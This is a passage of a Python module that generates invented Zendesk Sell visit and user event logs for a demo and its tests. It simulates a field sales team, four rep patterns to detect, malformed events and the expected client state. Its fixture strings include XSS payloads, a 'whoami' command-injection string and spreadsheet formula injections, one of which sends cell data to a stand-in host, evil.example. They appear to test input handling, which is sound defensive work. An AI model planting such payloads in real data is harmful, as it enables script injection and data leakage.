"""Invented Zendesk Sell data for the demo Firehose: a field team, its visits, and the truth.

`team_generate` simulates a sales team visiting customers around three US metro areas and
returns the users and visits event logs as the Firehose would emit them, together with the
state a correct client must end in (`DemoData.expected_*`). The simulation keeps that state
itself while it emits events, never by replaying the log, so a replay is an independent check.

Four suspicious reps, one per pattern (`DemoData.suspicious` maps rep id -> pattern):

- ``too_far``: about half of their visits are ``resource_location_too_far``.
- ``impossible_travel``: on about one working day in three they log a verified visit in
  another metro area (over 800 km away) 20-50 minutes after a verified visit at home.
- ``shared_coordinates``: about a third of their visits are logged from one of two fixed spots
  (home, a coffee shop), so identical coordinates appear at many customers, 1-30 km away.
- ``late_bursts``: they log visits twice a week in one sitting (Thursday and Monday mornings,
  20-90 s apart), so every visit is created 1.5 to 5 days after it happened.

Everyone else is ordinary: created_at is visited_at plus a few minutes, a verified position
is within 150 m of the customer, a too-far one 1-30 km away, and there is no position for
location_unknown / location_services_disabled. One `random.Random(seed)` drives everything,
so a seed and a `now` always give the same data. Teams of fewer than 8 reps get only the roles
they have reps for: one rep absent from the users stream first, then the patterns above.

`DemoData.core_*` is what Sell's Core API holds besides (see team_generate): history before the
window, a rep heavy enough to need split queries, customers' addresses, teams and managers.
"""

from __future__ import annotations

import base64
import copy
import itertools
import math
import random
import threading
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, time, timedelta
from zoneinfo import ZoneInfo

TIME_FORMAT = "%Y-%m-%dT%H:%M:%SZ"
EARTH_RADIUS_M = 6_371_000.0
EMAIL_DOMAIN = "fieldteam.example.com"
FIRST_VISIT_ID = 48_210_001
# Malformed items live far above real ids so they can never touch a real visit or user.
MALFORMED_FIRST_ID = 1_000_000_001


@dataclass(frozen=True)
class Region:
    name: str
    latitude: float
    longitude: float
    tz: ZoneInfo


REGIONS = (
    Region("Chicago", 41.8781, -87.6298, ZoneInfo("America/Chicago")),
    Region("Dallas", 32.7767, -96.7970, ZoneInfo("America/Chicago")),
    Region("Atlanta", 33.7490, -84.3880, ZoneInfo("America/New_York")),
)
CUSTOMER_RADIUS_M = 40_000

OUTCOMES: dict[int, str] = {
    4101: "Interested",
    4102: "Not interested",
    4103: "No answer",
    4104: "Come back later",
    4105: "Customer on site",
    4106: "Order placed",
    4107: "Demo booked",
    4108: "Left brochure",
}
OUTCOME_WEIGHTS = (18, 14, 16, 14, 6, 10, 9, 13)
RENAMED_OUTCOME = (4103, "No answer / closed")

STATUSES = ("verified", "resource_location_too_far", "location_unknown", "location_services_disabled")
STATUS_WEIGHTS = {None: (84, 8, 4.5, 3.5), "too_far": (45, 50, 3, 2)}
PATTERNS = ("too_far", "impossible_travel", "shared_coordinates", "late_bursts")

REP_NAMES = (
    "Jon Smith",
    "Maria Gonzalez",
    "Kevin O'Brien",
    "Aisha Patel",
    "Tom Becker",
    "Lakshmi Rao",
    "Derek Washington",
    "Emily Chen",
    "José Ramírez",
    "Hannah Kowalski",
    "Marcus Johnson",
    "Sofia Rossi",
    "Brian Nguyen",
    "Chloé Dubois",
    "Tyrone Jackson",
    "Rachel Goldberg",
    "Luis Herrera",
    "Megan Sullivan",
    "Andre Williams",
    "Priya Sharma",
    "Kyle Anderson",
    "Zoë Fischer",
    "Omar Haddad",
    "Jessica Moore",
    "Björn Larsen",
)
RESOURCE_TYPES = ("lead", "contact", "prospect_and_customer")
RENAMED_REP = "Jonathan Smith"
MANAGER_NAMES = ("Patricia Holloway", "Greg Tanaka")

# The Core API's side (see team_generate): the heavy rep, the users the Firehose never names,
# groups, outcomes no visit uses, addresses.
HEAVY_REP_ID = 180_001
HEAVY_REP_NAME = "Ramona Castellanos"
CORE_GROUPS = ({"id": 2201, "name": "Central"}, {"id": 2202, "name": "East"})
CORE_EXTRA_USERS = (
    {"id": 173_001, "name": "Victoria Ashworth", "email": f"victoria.ashworth@{EMAIL_DOMAIN}", "role": "admin",
     "team_name": "Sales leadership"},
    {"id": 173_002, "name": "Nadia Okafor", "email": f"nadia.okafor@{EMAIL_DOMAIN}", "role": "user",
     "team_name": 'Key accounts <b onmouseover="alert(1)">&amp;</b> =1+1'},
)  # fmt: skip
CORE_UNUSED_OUTCOMES = {4109: "Referred to distributor", 4110: '=HYPERLINK("http://x","Won") <i>big</i>'}
STREETS = (
    "N Michigan Ave", "W Madison St", "Elm St", "Commerce St", "Peachtree St NE", "Main St", "Oak Lawn Ave",
    "Ponce de Leon Ave", "Lake Shore Dr", "Ross Ave", "Industrial Blvd", "Halsted St",
)  # fmt: skip
POSTAL_PREFIXES = {"Chicago": "606", "Dallas": "752", "Atlanta": "303"}
HOSTILE_ADDRESSES = (
    '<script>alert("address")</script><img src=x onerror=alert(1)> 12 Main St, 60601 Chicago, United States',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me"), 75201 Dallas, United States',
    "1 " + "Very Long Industrial Park Service Road " * 30 + ", 30303 Atlanta, United States",
    "Calle Núñez 5, Édifice Ærø, 東京 ビル 3F, 60614 Chicago, États-Unis",
)

SUMMARIES: dict[int, tuple[str, ...]] = {
    4101: (
        "Owner keen on the spring range, wants pricing by Friday.",
        "Good chat with the buyer, interested in a trial order.",
        "Store manager interested, asked for samples.",
    ),
    4102: (
        "Happy with their current supplier.",
        "Budget frozen until next year.",
        "Buyer declined, says our prices are too high.",
    ),
    4103: ("Closed when I arrived.", "Nobody at reception, left my card.", "No answer at the door, will try again."),
    4104: (
        "Owner busy, come back next week.",
        "Buyer on holiday until the 20th.",
        "Asked me to return after their inventory count.",
    ),
    4105: (
        "Walked the floor with the customer.",
        "Customer on site, reviewed the last delivery.",
        "Met the site manager, checked stock levels.",
    ),
    4106: (
        "Order placed: 12 cases, delivery Tuesday.",
        "Reorder placed, same as last month.",
        "Trial order of 3 units placed.",
    ),
    4107: (
        "Demo booked for Thursday 10am.",
        "Booked a product demo with the ops team.",
        "Demo booked, they want to see the mobile app.",
    ),
    4108: (
        "Left brochure and price list with staff.",
        "Left brochure, owner will call back.",
        "Dropped off the new catalogue.",
    ),
}
FOLLOW_UPS = ("Update: they called back and confirmed.", "Fixed the contact name.", "Also send the catalogue by email.")
SPECIAL_SUMMARIES = (
    'Owner said "call me Tuesday", not before.\nLeft price list, catalogue, and samples.',
    "Met Señora Núñez at the café; she wants a démo next week, ça marche.",
    "Receptionist typed </script><img src=x onerror=alert(1)>${alert(1)} `whoami` in the form.",
    '=HYPERLINK("http://x") asked for a callback.',
)


@dataclass(frozen=True)
class Customer:
    resource_type: str
    resource_id: int
    position: tuple[float, float]


@dataclass
class Rep:
    id: int
    name: str
    email: str
    region: Region
    pattern: str | None = None
    in_users: bool = True
    active_until: datetime | None = None
    customers: list[Customer] = field(default_factory=list)
    far_customers: list[Customer] = field(default_factory=list)
    spots: list[tuple[float, float]] = field(default_factory=list)


@dataclass
class _Visit:
    """A visit as the rep made it; it gets an id once all visits are ordered by creation."""

    rep: Rep
    customer: Customer
    visited_at: datetime
    created_at: datetime
    status: str
    position: tuple[float, float] | None
    outcome_id: int
    summary: str


@dataclass
class DemoData:
    """Both event logs in log order, plus the state a client must reach by applying them.

    `customers` maps (resource_type, resource_id) to the customer's position, which the
    Firehose never sends but tests need to check rep positions against.
    """

    users_events: list[dict]
    visits_events: list[dict]
    now: datetime
    malformed_count: dict[str, int]
    suspicious: dict[int, str]
    customers: dict[tuple[str, int], tuple[float, float]]
    _world: _World = field(repr=False, compare=False)
    heavy_rep_id: int | None = None
    home: tuple[int, tuple[float, float]] | None = None  # the rep who logs visits from home, and the home

    # --- the Core API's view (visits/demo/core_api.py serves it) ----------------------------

    def core_visits(self) -> dict[int, dict]:
        """Visit id -> its v2 `data`, for every visit Sell still holds: history and window, never
        one the Firehose deleted."""
        with self._world.lock:
            return self._world.core_visits(deleted=False)

    def core_addresses(self) -> dict[tuple[str, int], str]:
        """(resource_type, resource_id) -> the customer's `resource_address` (the demo geocoder's table)."""
        return dict(self._world.addresses)

    def core_deleted_visits(self) -> dict[int, dict]:
        """Visit id -> the v2 `data` it had, for visits the Firehose deleted (a stale Core API's)."""
        with self._world.lock:
            return self._world.core_visits(deleted=True)

    def core_users(self) -> dict[int, dict]:
        """User id -> v2 user `data`: every rep (also those absent from the users stream), the
        managers, the director and the manager without visits."""
        with self._world.lock:
            return self._world.core_users()

    def core_outcomes(self) -> dict[int, str]:
        """Outcome id -> its current name, also those no visit uses (CORE_UNUSED_OUTCOMES)."""
        with self._world.lock:
            return self._world.core_outcomes()

    def core_history_positions(self) -> dict[int, tuple[float, float] | None]:
        """History visit id -> where the rep was (the truth; the Core API never tells)."""
        with self._world.lock:
            return {visit_id: entry["position"] for visit_id, entry in self._world.history.items()}

    def core_version(self) -> int:
        """Moves whenever a visit is created, so a server may cache what it lists."""
        return self._world.core_version

    def expected_visits(self) -> dict[int, dict]:
        """Visit id -> {"deleted", "sequence", "snapshot"} a correct client ends with."""
        with self._world.lock:
            return copy.deepcopy(self._world.visits)

    def expected_reps(self) -> dict[int, dict]:
        """User id -> {"name", "email", "status", "role"}; empty strings for unknown creators."""
        with self._world.lock:
            reps = {
                user_id: {key: user[key] for key in ("name", "email", "status", "role")}
                for user_id, user in self._world.users.items()
            }
            for creator_id in self._world.creators - reps.keys():
                reps[creator_id] = {"name": "", "email": "", "status": "", "role": ""}
            return reps

    def expected_outcomes(self) -> dict[int, str]:
        """Outcome id -> the name carried by the newest visit event that mentions it."""
        with self._world.lock:
            return {outcome_id: name for outcome_id, (_, name) in self._world.outcomes_seen.items()}

    def append_live(self, *, count: int = 1, now: datetime | None = None) -> list[dict]:
        """Create `count` visits happening at `now` (the real now if not given, as for the demo's
        live visits), append their events and return them."""
        at = (now or datetime.now(UTC)).astimezone(UTC).replace(microsecond=0)
        with self._world.lock:
            events = [self._world.live_visit_create(now=at) for _ in range(count)]
            self.visits_events.extend(events)
        return events


def leaders() -> list[dict]:
    """The demo's director and its two regional managers (Central, East) as the Core API's users
    name them: {"name", "email", "group"} (group None for the director). Their e-mails are fixed
    (the managers' are made as team_build makes them: no rep has their names), so the demo's
    accounts can share them before any data is generated (`manage.py demo_accounts`)."""
    director = CORE_EXTRA_USERS[0]
    found = [{"name": director["name"], "email": director["email"], "group": None}]
    for index, name in enumerate(MANAGER_NAMES):
        found.append({"name": name, "email": _email(name=name, taken=set()), "group": CORE_GROUPS[index]["name"]})
    return found


def team_generate(
    *,
    seed: int = 7,
    reps: int = 25,
    weeks: int = 8,
    now: datetime | None = None,
    updates: bool = True,
    deletes: bool = True,
    malformed: bool = False,
    history_weeks: int = 0,
    heavy_rep_visits: int = 0,
    home_rep: bool = False,
) -> DemoData:
    """Simulate the team and return both event logs with the state they must produce.

    `now` is the clock: the simulated window is the `weeks` before it, and nothing else here
    reads the date, so a seed and a `now` always give the same data. Left out, it is the real
    now (the demo command); tests pass a fixed moment.

    The Core API's view (`DemoData.core_*`) holds more than the logs, drawn with dice of its own
    so the window's events and ids are the same whatever is asked for here:

    - `history_weeks`: the team's visits in the weeks before the window, in the Core API only
      (Sell's Firehose keeps 72 hours). Same reps, customers, outcome and status mix; their ids
      count down from FIRST_VISIT_ID - 1 (the newest) in order of creation. One of them may be
      the window's "prehistoric" delete, and then it is gone from the Core API too.
    - `heavy_rep_visits`: one more rep (HEAVY_REP_ID, in the Core API's users, not in the
      Firehose's) with that many visits before the window (over `history_weeks`, or 26 weeks), so
      a backfill must split its queries: a leaf of min(n, 20,000, max(10,002, 3n/5)) visits share
      status verified, outcome 4101 and resource type lead (past the 10,000 one sort order
      reaches, so only both orders get them all); the rest spread over every other combination
      of status, outcome and resource type.
    - Every customer has a `resource_address` ("line1, postal code city, country"); four are
      hostile (markup, a spreadsheet formula, over 1,000 characters, non-ASCII).
    - `home_rep` (off by default, so a seed gives the same data as before it existed): one
      ordinary rep logs about a third of their located visits from home, 8-20 km from the
      region's centre, those far from the customer marked too far; `DemoData.home` says who and
      where. Drawn with dice of its own: the other reps' visits are the same either way.
    - Users: teams in two regional groups reporting to the two managers, who report to a
      director (group null); one more manager with no visits, absent from the Firehose."""
    if reps < 1:
        raise ValueError("reps must be at least 1")
    if weeks < 1:
        raise ValueError("weeks must be at least 1")
    if history_weeks < 0 or heavy_rep_visits < 0:
        raise ValueError("history_weeks and heavy_rep_visits must not be negative")
    now = (now or datetime.now(UTC)).astimezone(UTC).replace(microsecond=0)
    world = _World(seed=seed, now=now, weeks=weeks, updates=updates)
    world.home_wanted = home_rep
    world.team_build(reps=reps)
    users_log = world.users_emit()
    visits_log = world.visits_emit(deletes=deletes)
    malformed_count = {"visits": 0, "users": 0}
    if malformed:
        visits_bad, users_bad = world.visits_malformed(), world.users_malformed()
        visits_log += visits_bad
        users_log += users_bad
        malformed_count = {"visits": len(visits_bad), "users": len(users_bad)}
    world.history_build(weeks=history_weeks, heavy_visits=heavy_rep_visits)
    world.addresses_build()
    return DemoData(
        users_events=_ordered(users_log),
        visits_events=_ordered(visits_log),
        now=now,
        malformed_count=malformed_count,
        suspicious={rep.id: rep.pattern for rep in world.reps if rep.pattern},
        customers={
            (c.resource_type, c.resource_id): c.position
            for rep in world.reps + ([world.heavy] if world.heavy else [])
            for c in rep.customers + rep.far_customers
        },
        _world=world,
        heavy_rep_id=world.heavy.id if world.heavy else None,
        home=world.home,
    )


class _World:
    """The simulated truth: reps, their customers, and every visit and user as it stands."""

    def __init__(self, *, seed: int, now: datetime, weeks: int, updates: bool) -> None:
        self.rng = random.Random(seed)
        self.now = now
        self.start = now - timedelta(weeks=weeks)
        self.updates = updates
        self.snapshot_deletes = 0  # deletes that carried a full snapshot; shapes alternate
        self.deleted_ids: set[int] = set()
        self.lock = threading.Lock()
        self.rename_at = None
        if updates:
            self.rename_at = self._moment(0.5, 0.7)
        self.reps: list[Rep] = []
        self.managers: list[Rep] = []
        self.user_changes: list[tuple[datetime, Rep, dict]] = []
        self.users: dict[int, dict] = {}
        self.visits: dict[int, dict] = {}
        self.creators: set[int] = set()
        self.outcomes_seen: dict[int, tuple[datetime, str]] = {}
        self.next_visit_id = FIRST_VISIT_ID
        self.next_resource_id = {"lead": 3_100_001, "contact": 5_200_001, "prospect_and_customer": 7_400_001}
        # The Core API's side (served by core_api.py): history before the window, addresses, teams.
        self.seed = seed
        self.updated_at: dict[int, datetime] = {}  # visit id -> its last change, for v2's updated_at
        self.history: dict[int, dict] = {}  # visit id -> {"data": v2 data, "position": (lat, lon) | None}
        self.addresses: dict[tuple[str, int], str] = {}
        self.heavy: Rep | None = None
        self.home_wanted = False
        self.home: tuple[int, tuple[float, float]] | None = None
        self.core_version = 0  # moves with every visit created, so a server can cache its listing

    # --- the team -------------------------------------------------------------------------

    def team_build(self, *, reps: int) -> None:
        rng = self.rng
        names = _names(count=reps)
        ids = sorted(rng.sample(range(174_001, 180_000), reps + len(MANAGER_NAMES)))
        emails: set[str] = set()
        others = list(range(1, reps))  # index 0 is Jon Smith: renamed, otherwise ordinary
        rng.shuffle(others)
        # Small teams get the roles they have reps for: the absent rep first, then the patterns.
        # The two user updates need reps in the users stream; ordinary reps are preferred.
        absent = others[0] if others else None
        patterns = dict(zip(others[1:], PATTERNS, strict=False))
        inactive, promoted = (sorted(others[1:], key=lambda index: index in patterns) + [None, None])[:2]
        for index, name in enumerate(names):
            region = REGIONS[index % len(REGIONS)]
            rep = Rep(
                id=ids[index],
                name=name,
                email=_email(name=name, taken=emails),
                region=region,
                pattern=patterns.get(index),
                in_users=index != absent,
            )
            rep.customers = [self._customer_new(region) for _ in range(rng.randint(30, 45))]
            if rep.pattern == "impossible_travel":
                far = REGIONS[(index + 1) % len(REGIONS)]
                rep.far_customers = [self._customer_new(far) for _ in range(6)]
            if rep.pattern == "shared_coordinates":
                rep.spots = [
                    _offset(
                        region.latitude,
                        region.longitude,
                        metres=rng.uniform(3_000, 15_000),
                        bearing=rng.uniform(0, 360),
                    )
                    for _ in range(2)
                ]
            self.reps.append(rep)
        self.managers = [
            Rep(id=ids[reps + i], name=name, email=_email(name=name, taken=emails), region=REGIONS[i])
            for i, name in enumerate(MANAGER_NAMES)
        ]
        if not self.updates:
            return
        renamed = {"name": RENAMED_REP, "email": _email(name=RENAMED_REP, taken=emails)}
        self.user_changes.append((self._moment(0.4, 0.6), self.reps[0], renamed))
        if inactive is not None:
            leaver = self.reps[inactive]
            leaver.active_until = self._moment(0.75, 0.85)
            self.user_changes.append((leaver.active_until, leaver, {"status": "inactive"}))
        if promoted is not None:
            self.user_changes.append((self._moment(0.6, 0.95), self.reps[promoted], {"role": "admin"}))

    def _customer_new(
        self, region: Region, *, rng: random.Random | None = None, resource_type: str | None = None
    ) -> Customer:
        rng = rng or self.rng
        resource_type = resource_type or rng.choices(RESOURCE_TYPES, weights=(35, 30, 35))[0]
        resource_id = self.next_resource_id[resource_type]
        self.next_resource_id[resource_type] += rng.randint(1, 40)
        metres = CUSTOMER_RADIUS_M * math.sqrt(rng.random())  # uniform over the disc
        position = _offset(region.latitude, region.longitude, metres=metres, bearing=rng.uniform(0, 360))
        return Customer(resource_type, resource_id, position)

    # --- users ----------------------------------------------------------------------------

    def users_emit(self) -> list[tuple[datetime, dict]]:
        entries, sequences = [], {}
        for rep in self.reps + self.managers:
            if not rep.in_users:
                continue
            created_at = (self.start - timedelta(days=self.rng.uniform(30, 1400))).replace(microsecond=0)
            user = {
                "id": rep.id,
                "name": rep.name,
                "email": rep.email,
                "status": "active",
                "role": "admin" if rep in self.managers else "user",
                "confirmed": True,
                "created_at": _iso(created_at),
            }
            self.users[rep.id], sequences[rep.id] = user, 1
            entries.append((created_at, self._event("user", "created", dict(user), sequence=1, at=created_at)))
        for at, rep, changes in sorted(self.user_changes, key=lambda change: change[0]):
            user = self.users[rep.id]
            previous = {key: user[key] for key in changes}
            user.update(changes)
            sequences[rep.id] += 1
            entries.append(
                (at, self._event("user", "updated", dict(user), sequence=sequences[rep.id], at=at, previous=previous))
            )
        return entries

    def users_malformed(self) -> list[tuple[datetime, dict]]:
        """A user without an id, and hostile ones (each with an id no real user has)."""
        entries = []
        for offset, damage in enumerate((None, *USER_DAMAGE.values())):
            at = self._moment()
            data = {
                "id": MALFORMED_FIRST_ID + offset,
                "name": "Pat Doe",
                "email": f"pat.doe@{EMAIL_DOMAIN}",
                "status": "active",
                "role": "user",
                "confirmed": True,
                "created_at": _iso(at),
            }
            event = self._event("user", "created", data, sequence=1, at=at)
            if damage is None:
                data.pop("id")
            else:
                damage(event)
            entries.append((at, event))
        return entries

    # --- visits ---------------------------------------------------------------------------

    def visits_emit(self, *, deletes: bool) -> list[tuple[datetime, dict]]:
        plans = []
        for rep in self.reps:
            rep_plans = []
            day, last = self.start.astimezone(rep.region.tz).date(), self.now.astimezone(rep.region.tz).date()
            while day <= last:
                if day.weekday() < 5 and self.rng.random() > 0.04:
                    rep_plans += self._day_plan(rep, day)
                day += timedelta(days=1)
            if rep.pattern == "late_bursts":
                self._bursts_schedule(rep_plans)
            plans += [plan for plan in rep_plans if plan.created_at <= self.now]
        if self.home_wanted:
            self._home_apply(plans)
        plans.sort(key=lambda plan: plan.created_at)
        special = set(self.rng.sample(range(len(plans)), min(len(plans), len(SPECIAL_SUMMARIES))))
        for index, summary in zip(sorted(special), SPECIAL_SUMMARIES, strict=False):
            plans[index].summary = summary
        entries = []
        for index, plan in enumerate(plans):
            entries += self._visit_history(self._visit_id_new(), plan, editable=index not in special, deletes=deletes)
        if deletes:
            entries.append(self._prehistoric_delete())
        return entries

    def _home_apply(self, plans: list[_Visit]) -> None:
        """One ordinary rep logs a third of their located visits from home (dice of its own)."""
        rng = random.Random(self.seed + 5)
        ordinary = [rep for rep in self.reps if rep.pattern is None and rep.in_users]
        if not ordinary:
            return
        rep = rng.choice(ordinary)
        home = _offset(
            rep.region.latitude, rep.region.longitude, metres=rng.uniform(8_000, 20_000), bearing=rng.uniform(0, 360)
        )
        self.home = (rep.id, home)
        for plan in plans:
            if plan.rep is rep and plan.position is not None and rng.random() < 0.35:
                plan.position = _offset(*home, metres=rng.uniform(2, 25), bearing=rng.uniform(0, 360))
                if _distance_m(home, plan.customer.position) >= 1_000:
                    plan.status = "resource_location_too_far"

    def _day_plan(
        self,
        rep: Rep,
        day: date,
        *,
        rng: random.Random | None = None,
        since: datetime | None = None,
        until: datetime | None = None,
    ) -> list[_Visit]:
        """The rep's visits of one working day between `since` and `until` (the window's by default)."""
        rng, tz = rng or self.rng, rep.region.tz
        since, until = since or self.start, until or self.now
        clock = datetime.combine(day, time(8, 0), tzinfo=tz) + timedelta(minutes=rng.randint(0, 75))
        closing = datetime.combine(day, time(17, 45), tzinfo=tz)
        count = rng.randint(3, 7)
        far_index = None
        if rep.pattern == "impossible_travel" and rng.random() < 0.35:
            far_index = rng.randint(1, count - 1)
        visits, previous = [], None
        for index in range(count):
            if index:
                clock += timedelta(minutes=rng.randint(20, 50) if index == far_index else rng.randint(35, 110))
            visited_at = (clock + timedelta(seconds=rng.randint(0, 59))).astimezone(UTC)
            if clock > closing or visited_at > until:
                break
            if visited_at < since or (rep.active_until and visited_at > rep.active_until - timedelta(days=1)):
                continue
            if index == far_index:
                customer = rng.choice(rep.far_customers)
            else:
                customer = self._customer_pick(rep, avoid=previous, rng=rng)
            forced = "verified" if far_index is not None and index in (far_index - 1, far_index) else None
            visits.append(self._visit_plan(rep, customer, visited_at, forced=forced, rng=rng))
            previous = customer
        return visits

    def _customer_pick(self, rep: Rep, *, avoid: Customer | None, rng: random.Random | None = None) -> Customer:
        # Zipf-like weights: a few regulars get most of the visits, the tail gets the odd one.
        weights = [1 / (rank + 1) ** 0.8 for rank in range(len(rep.customers))]
        while True:
            customer = (rng or self.rng).choices(rep.customers, weights=weights)[0]
            if customer != avoid:
                return customer

    def _visit_plan(
        self,
        rep: Rep,
        customer: Customer,
        visited_at: datetime,
        *,
        forced: str | None,
        rng: random.Random | None = None,
    ) -> _Visit:
        rng = rng or self.rng
        weights = STATUS_WEIGHTS["too_far" if rep.pattern == "too_far" else None]
        status = forced or rng.choices(STATUSES, weights=weights)[0]
        position = self._position(customer, status, rng=rng)
        if rep.spots and forced is None and rng.random() < 0.35:
            spot = rng.choice(rep.spots)
            if 1_000 <= _distance_m(spot, customer.position) <= 30_000:
                status, position = "resource_location_too_far", spot
        outcome_id = rng.choices(list(OUTCOMES), weights=OUTCOME_WEIGHTS)[0]
        summary = "" if rng.random() < 0.06 else rng.choice(SUMMARIES[outcome_id])
        created_at = visited_at + timedelta(seconds=rng.randint(60, 900))
        return _Visit(rep, customer, visited_at, created_at, status, position, outcome_id, summary)

    def _position(
        self, customer: Customer, status: str, *, rng: random.Random | None = None
    ) -> tuple[float, float] | None:
        rng = rng or self.rng
        if status == "verified":
            metres = rng.uniform(5, 140)
        elif status == "resource_location_too_far":
            metres = rng.uniform(1_000, 30_000)
        else:
            return None
        return _offset(*customer.position, metres=metres, bearing=rng.uniform(0, 360))

    def _bursts_schedule(self, plans: list[_Visit], *, rng: random.Random | None = None) -> None:
        """Mon-Tue visits are logged on Thursday morning, Wed-Fri ones on the next Monday."""
        rng = rng or self.rng
        sessions: dict[date, list[_Visit]] = {}
        for plan in plans:
            local = plan.visited_at.astimezone(plan.rep.region.tz).date()
            weekday = local.weekday()
            session = local + timedelta(days=3 - weekday if weekday < 2 else 7 - weekday)
            sessions.setdefault(session, []).append(plan)
        for session, batch in sessions.items():
            tz = batch[0].rep.region.tz
            clock = datetime.combine(session, time(6, 45), tzinfo=tz) + timedelta(minutes=rng.randint(0, 30))
            for plan in sorted(batch, key=lambda plan: plan.visited_at):
                clock += timedelta(seconds=rng.randint(20, 90))
                plan.created_at = clock.astimezone(UTC)

    def _visit_history(
        self, visit_id: int, plan: _Visit, *, editable: bool, deletes: bool
    ) -> list[tuple[datetime, dict]]:
        """Emit the created event and, sometimes, later edits and a deletion."""
        rng = self.rng
        at = plan.created_at
        entries = [(at, self._visit_create(visit_id, plan))]
        truth = self.visits[visit_id]
        if editable and self.updates and rng.random() < 0.03:
            for _ in range(1 if rng.random() < 0.7 else 2):
                at += timedelta(seconds=rng.randint(15 * 60, 36 * 3600))
                if at > self.now:
                    break
                kind = rng.choice(("summary", "outcome", "both"))
                if kind != "summary":
                    plan.outcome_id = rng.choice([oid for oid in OUTCOMES if oid != plan.outcome_id])
                if kind != "outcome":
                    plan.summary = f"{plan.summary} {rng.choice(FOLLOW_UPS)}".strip()
                old, new = truth["snapshot"], self._snapshot(visit_id, plan, at=at)
                previous = {key: old[key] for key in new if new[key] != old[key]}
                truth.update(sequence=truth["sequence"] + 1, snapshot=new)
                self.updated_at[visit_id] = at
                self._outcome_seen(new, at=at)
                entries.append(
                    (
                        at,
                        self._event(
                            "visit", "updated", copy.deepcopy(new), sequence=truth["sequence"], at=at, previous=previous
                        ),
                    )
                )
        if editable and deletes and rng.random() < 0.01:
            at += timedelta(seconds=rng.randint(30 * 60, 48 * 3600))
            if at <= self.now:
                snapshot = truth["snapshot"]
                # A full snapshot only when its outcome name is still current, so the deleted
                # event never carries a name older than the events before it.
                current = snapshot["outcome"]["name"] == self._outcome_name(plan.outcome_id, at=at)
                # The two shapes alternate, so any stream with a few deletes has both.
                with_snapshot = current and self.snapshot_deletes <= len(self.deleted_ids) // 2
                data = copy.deepcopy(snapshot) if with_snapshot else {"id": visit_id}
                self.snapshot_deletes += with_snapshot
                self.deleted_ids.add(visit_id)
                truth.update(sequence=truth["sequence"] + 1, deleted=True)
                entries.append((at, self._event("visit", "deleted", data, sequence=truth["sequence"], at=at)))
        return entries

    def _prehistoric_delete(self) -> tuple[datetime, dict]:
        """A visit created before the log begins is deleted now: the client only ever sees its id."""
        visit_id = FIRST_VISIT_ID - self.rng.randint(100, 5_000)
        at = self._moment()
        self.visits[visit_id] = {"deleted": True, "sequence": 3, "snapshot": None}
        return at, self._event("visit", "deleted", {"id": visit_id}, sequence=3, at=at)

    def _visit_create(self, visit_id: int, plan: _Visit) -> dict:
        snapshot = self._snapshot(visit_id, plan, at=plan.created_at)
        self.visits[visit_id] = {"deleted": False, "sequence": 1, "snapshot": snapshot}
        self.updated_at[visit_id] = plan.created_at
        self.core_version += 1
        self.creators.add(plan.rep.id)
        self._outcome_seen(snapshot, at=plan.created_at)
        return self._event("visit", "created", copy.deepcopy(snapshot), sequence=1, at=plan.created_at)

    def live_visit_create(self, *, now: datetime) -> dict:
        reps = [rep for rep in self.reps if rep.pattern is None and rep.active_until is None]
        rep = self.rng.choice(reps)
        visited_at = now - timedelta(seconds=self.rng.randint(120, 1_500))
        plan = self._visit_plan(rep, self._customer_pick(rep, avoid=None), visited_at, forced=None)
        plan.created_at = now
        return self._visit_create(self._visit_id_new(), plan)

    def visits_malformed(self) -> list[tuple[datetime, dict]]:
        """One item per way a client must reject, each with an id no real visit uses."""
        entries = []
        for offset, damage in enumerate(VISIT_DAMAGE.values()):
            rep = self.rng.choice([rep for rep in self.reps if rep.pattern is None])
            at = self._moment()
            plan = self._visit_plan(
                rep, self._customer_pick(rep, avoid=None), at - timedelta(minutes=5), forced="verified"
            )
            plan.created_at = at
            event = self._event(
                "visit", "created", self._snapshot(MALFORMED_FIRST_ID + offset, plan, at=at), sequence=1, at=at
            )
            damage(event)
            entries.append((at, event))
        return entries

    def _visit_id_new(self) -> int:
        self.next_visit_id += 1
        return self.next_visit_id - 1

    def _snapshot(self, visit_id: int, plan: _Visit, *, at: datetime) -> dict:
        latitude, longitude = plan.position or (None, None)
        return {
            "id": visit_id,
            "resource_type": plan.customer.resource_type,
            "resource_id": plan.customer.resource_id,
            "creator_id": plan.rep.id,
            "visited_at": _iso(plan.visited_at),
            "created_at": _iso(plan.created_at),
            "summary": plan.summary,
            "outcome": {
                "id": plan.outcome_id,
                "name": self._outcome_name(plan.outcome_id, at=at),
                "has_original_name": True,
            },
            "sales_rep_location": {"latitude": latitude, "longitude": longitude, "verification_status": plan.status},
        }

    def _outcome_name(self, outcome_id: int, *, at: datetime) -> str:
        renamed_id, new_name = RENAMED_OUTCOME
        if outcome_id == renamed_id and self.rename_at is not None and at >= self.rename_at:
            return new_name
        return OUTCOMES[outcome_id]

    def _outcome_seen(self, snapshot: dict, *, at: datetime) -> None:
        outcome = snapshot["outcome"]
        seen = self.outcomes_seen.get(outcome["id"])
        if seen is None or at >= seen[0]:
            self.outcomes_seen[outcome["id"]] = (at, outcome["name"])

    # --- the Core API's view: history, addresses, teams -----------------------------------

    def history_build(self, *, weeks: int, heavy_visits: int) -> None:
        """Visits before the window, from dice of their own (the window's stay as they are)."""
        rng = random.Random(self.seed + 1)
        since = self.start - timedelta(weeks=weeks)
        until = self.start - timedelta(seconds=1)
        plans: list[_Visit] = []
        for rep in self.reps if weeks else []:
            rep_plans = []
            day, last = since.astimezone(rep.region.tz).date(), until.astimezone(rep.region.tz).date()
            while day <= last:
                if day.weekday() < 5 and rng.random() > 0.04:
                    rep_plans += self._day_plan(rep, day, rng=rng, since=since, until=until)
                day += timedelta(days=1)
            if rep.pattern == "late_bursts":
                self._bursts_schedule(rep_plans, rng=rng)
            plans += [plan for plan in rep_plans if plan.created_at < self.start]
        if heavy_visits:
            plans += self._heavy_plans(
                rng, count=heavy_visits, since=since if weeks else self.start - timedelta(weeks=26)
            )
        plans.sort(key=lambda plan: (plan.created_at, plan.rep.id))
        for index in rng.sample(range(len(plans)), min(len(plans), len(SPECIAL_SUMMARIES))):
            plans[index].summary = SPECIAL_SUMMARIES[index % len(SPECIAL_SUMMARIES)]
        first_id = FIRST_VISIT_ID - len(plans)
        for offset, plan in enumerate(plans):
            visit_id = first_id + offset
            updated_at = plan.created_at
            if rng.random() < 0.03:  # edited later, as the window's visits are now and then
                updated_at += timedelta(seconds=rng.randint(15 * 60, 36 * 3600))
